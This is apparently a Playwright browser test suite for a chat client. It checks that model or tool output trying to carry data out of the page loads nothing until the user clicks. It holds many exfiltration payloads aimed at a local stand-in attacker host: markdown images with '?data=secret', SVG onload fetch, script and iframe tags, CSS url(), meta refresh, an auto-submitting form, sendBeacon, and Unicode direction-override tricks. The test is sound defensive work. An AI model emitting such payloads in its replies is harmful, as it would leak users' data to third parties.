/** Texts of a model or an API that try to carry data out of the page: nothing leaves its origin before a click. */
import { afterAll, beforeAll, beforeEach, expect, test } from "bun:test";
import type { Page } from "playwright-core";
import type { PendingCallFrame, ServerFrame } from "../../src/protocols/native/types.ts";
import { openChat, readVisibleText, sendMessage, waitForReply } from "./actions.ts";
import { describeInBrowser, useBrowser } from "./browser.ts";
import {
  createAiResponse,
  createFrameSequencer,
  createSessionFrame,
  type ScriptedServer,
  startScriptedServer,
} from "./scripted.ts";

describeInBrowser("texts that try to carry data out", () => {
  const browser = useBrowser();
  let server: ScriptedServer;
  /** The host of the attacker: it records every connection that arrives. */
  let attacker: ReturnType<typeof Bun.serve>;
  let arrived: { readonly url: string; readonly referrer: string | null }[] = [];

  beforeAll(() => {
    server = startScriptedServer();
    attacker = Bun.serve({
      port: 0,
      hostname: "127.0.0.1",
      fetch(request) {
        arrived.push({ url: new URL(request.url).pathname, referrer: request.headers.get("referer") });
        return new Response("<title>arrived</title>", { headers: { "Content-Type": "text/html" } });
      },
    });
  });

  beforeEach(() => {
    server.reset();
    arrived = [];
  });

  afterAll(async () => {
    await server.stop();
    await attacker.stop(true);
  });

  const evil = (path: string) => `http://127.0.0.1:${attacker.port}/${path}`;

  /** Answers each message with this text, in every place that shows text of a model or an API. */
  function replyEverywhere(text: string): void {
    const next = createFrameSequencer();
    server.setSessions([createSessionFrame("listed", text, { model: text })]);
    server.setScript((client) => {
      const call = { tool_call_id: "a", name: "search" } as const;
      const frames: ServerFrame[] = [
        { type: "notice", code: "retrying", message: text },
        next({ type: "reasoning_delta", text } as const),
        next({ type: "tool_call", ...call, arguments: { text }, method: "get", path: `/${text}` } as const),
        next({
          type: "tool_result",
          ...call,
          status: "ok",
          duration_ms: 1,
          result: JSON.stringify({ passages: [{ source: evil("source"), text }] }),
        } as const),
        next({ type: "text_delta", text } as const),
        next(createAiResponse(text)),
      ];
      for (const frame of frames) client.send(frame);
    });
  }

  async function showReply(page: Page): Promise<void> {
    await openChat(page, server.address);
    await sendMessage(page, "Hello?");
    await waitForReply(page);
    for (const summary of await page.locator(".entry-reply summary").all()) await summary.click();
    // Frames, images and style sheets that were requested have arrived by then.
    await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve, { timeout: 1000 })));
  }

  test("Images, links and HTML of every kind load nothing and change nothing.", async () => {
    const markdown = [
      `![a](${evil("image")}) ![b][ref] [![c](${evil("nested")})](${evil("link")})`,
      `[ref]: ${evil("reference")} "title"`,
      `<${evil("autolink")}> ${evil("bare")} [x](${evil("q")}?data=secret)`,
      `![d](data:image/svg+xml,<svg/onload=fetch("${evil("svg")}")>) ![e](//127.0.0.1:${attacker.port}/relative)`,
      `Text[^1].\n\n[^1]: ![f](${evil("footnote")})`,
      `| a |\n| - |\n| ![g](${evil("cell")}) |`,
      `> - ![h](${evil("quoted")})`,
      `$$\\includegraphics{${evil("tex")}}$$`,
      `\`\`\`html\n<img src="${evil("fenced")}">\n\`\`\``,
      `\`\`\`mermaid\ngraph TD; a[<img src=${evil("mermaid")}>]\n\`\`\``,
    ];
    const html = [
      `<img src="${evil("img")}" srcset="${evil("srcset")} 1x">`,
      `<picture><source srcset="${evil("source-set")}"><img></picture>`,
      `<script src="${evil("script")}"></script>`,
      `<iframe src="${evil("frame")}" srcdoc="<img src=${evil("srcdoc")}>"></iframe>`,
      `<object data="${evil("object")}"></object><embed src="${evil("embed")}">`,
      `<link rel="stylesheet prefetch preload dns-prefetch preconnect" href="${evil("link")}">`,
      `<style>@import "${evil("import")}"; * { background: url(${evil("css")}) }</style>`,
      `<p style="background: url(${evil("style")})">x</p>`,
      `<video poster="${evil("poster")}" src="${evil("video")}" autoplay></video>`,
      `<audio src="${evil("audio")}" autoplay></audio>`,
      `<svg><image href="${evil("svg-image")}"/><use href="${evil("use")}#x"/></svg>`,
      `<meta http-equiv="refresh" content="0;url=${evil("refresh")}"><base href="${evil("base")}">`,
      `<form action="${evil("form")}"><input type="image" src="${evil("input")}" autofocus onfocus="this.form.submit()"></form>`,
      `<body background="${evil("body")}"><table background="${evil("table")}"></table>`,
    ];
    replyEverywhere([...markdown, ...html].join("\n\n"));
    const { page, consoleErrors, externalRequests } = await browser.open();
    const opened: string[] = [];
    page.on("popup", (popup) => opened.push(popup.url()));
    page.on("dialog", (dialog) => void dialog.dismiss());
    await showReply(page);
    await page.locator(".diagram img, .diagram-note").first().waitFor();
    expect(await readVisibleText(page.locator(".entry-reply .markdown").last())).toContain("<iframe src=");
    expect(
      await page
        .locator(
          "#root :is(img:not(.diagram img[src^='data:image/svg+xml;']), picture, script, iframe, object, embed, link, style, video, audio, meta, base, form[action], [style*=url], [background], svg image, svg use)",
        )
        .count(),
    ).toBe(0);
    expect({ arrived, opened, externalRequests, consoleErrors, url: page.url() }).toEqual({
      arrived: [],
      opened: [],
      externalRequests: [],
      consoleErrors: [],
      url: `${server.address}?conversation=session-1`,
    });
  }, 60_000);

  test("A link opens with a click only, without a referrer and without a way back to the page.", async () => {
    replyEverywhere(`[\u202eYour order](${evil("order")}?data=secret)`);
    const { page } = await browser.open();
    await showReply(page);
    const link = page.locator(".entry-reply .markdown a").last();
    expect(
      await link.evaluate((element) => {
        const { content, direction, unicodeBidi } = getComputedStyle(element, "::after");
        return [content, direction, unicodeBidi];
      }),
    ).toEqual([`"(127.0.0.1:${attacker.port})"`, "ltr", "isolate"]);
    await link.hover();
    await link.focus();
    expect(arrived).toEqual([]);
    const popup = page.waitForEvent("popup");
    await link.click();
    const opened = await popup;
    await opened.waitForLoadState();
    expect(await opened.evaluate(() => [document.title, window.opener, document.referrer])).toEqual([
      "arrived",
      null,
      "",
    ]);
    expect(arrived.filter(({ url }) => url !== "/favicon.ico")).toEqual([{ url: "/order", referrer: null }]);
    await opened.close();
  }, 60_000);

  test("No part of a call that waits for approval can hide or turn around what it would send.", async () => {
    // Bidirectional override and isolate, zero width, control, line separator, tag and variation selector.
    const hidden = "\u202e\u2066\u200b\u0007\u2028\u{e0041}\ufe0f";
    const text = (name: string) => `${name}${hidden}end`;
    const next = createFrameSequencer();
    server.setScript((client) => {
      const call = {
        tool_call_id: "a",
        name: text("name"),
        method: "post",
        path: `/${text("path")}`,
        arguments: { [text("argument")]: text("value") },
      } as const;
      const request = {
        method: "POST",
        url: `https://shop.example/${text("url")}`,
        headers: { "X-Note": text("header") },
        body: JSON.stringify({ [text("field")]: [text("body")] }),
      };
      const custom = { tool_call_id: "b", name: text("tool"), arguments: { [text("key")]: text("plain") } };
      const calls: readonly PendingCallFrame[] = [{ ...call, request }, custom];
      client.send(
        next({
          type: "approval_request",
          approval_id: "p",
          tool_calls: calls,
          expires_at: new Date(Date.now() + 60_000).toISOString(),
        } as const),
      );
    });
    const { page } = await browser.open();
    await openChat(page, server.address);
    await sendMessage(page, "Hello?");
    const approval = page.getByRole("region", { name: "Waiting for your approval" });
    await approval.getByRole("article").nth(1).waitFor();
    const [shown, labels] = await approval.evaluate((element) => [
      element.textContent ?? "",
      [...element.querySelectorAll("[aria-label], [title]")]
        .flatMap((labelled) => [labelled.getAttribute("aria-label"), labelled.getAttribute("title")])
        .join(),
    ]);
    for (const name of ["path", "url", "header", "field", "body", "tool", "key", "plain"])
      expect(shown).toContain(`${name}\\u202e\\u2066\\u200b`);
    for (const character of hidden) expect(`${shown}${labels}`).not.toContain(character);
  }, 60_000);

  test("An element that a fault would insert can neither load nor send.", async () => {
    replyEverywhere("Hello.");
    const { page } = await browser.open();
    await showReply(page);
    const blocked = await page.evaluate(
      async ([base, count]) => {
        const directives = new Set<string>();
        document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
          directives.add(effectiveDirective),
        );
        const host = document.createElement("div");
        document.body.append(host);
        const insert = (tag: string, attributes: Record<string, string>) => {
          const element = document.createElement(tag);
          for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
          host.append(element);
          return element;
        };
        insert("img", { src: `${base}img` });
        insert("script", { src: `${base}script` });
        insert("script", {}).textContent = "fetch('/inline')";
        insert("iframe", { src: `${base}frame` });
        insert("object", { data: `${base}object` });
        insert("video", { src: `${base}video` });
        insert("link", { rel: "stylesheet", href: `${base}css` });
        insert("style", {}).textContent = `* { background: url(${base}style) }`;
        (insert("form", { action: `${base}form`, method: "post" }) as HTMLFormElement).submit();
        navigator.sendBeacon(`${base}beacon`, "secret");
        void fetch(`${base}fetch`, { mode: "no-cors" }).catch(() => {});
        new WebSocket(base.replace("http", "ws"));
        new EventSource(`${base}events`);
        // Violations are reported a little later.
        while (directives.size < count) await new Promise((resolve) => setTimeout(resolve, 20));
        return [...directives].toSorted();
      },
      [evil(""), BLOCKED.length] as const,
    );
    expect(blocked).toEqual(BLOCKED);
    expect(arrived).toEqual([]);
  }, 60_000);
});

/** The directives that block the elements and requests of a test. */
const BLOCKED = [
  "connect-src",
  "form-action",
  "frame-src",
  "img-src",
  "media-src",
  "object-src",
  "script-src-elem",
  "style-src-elem",
];
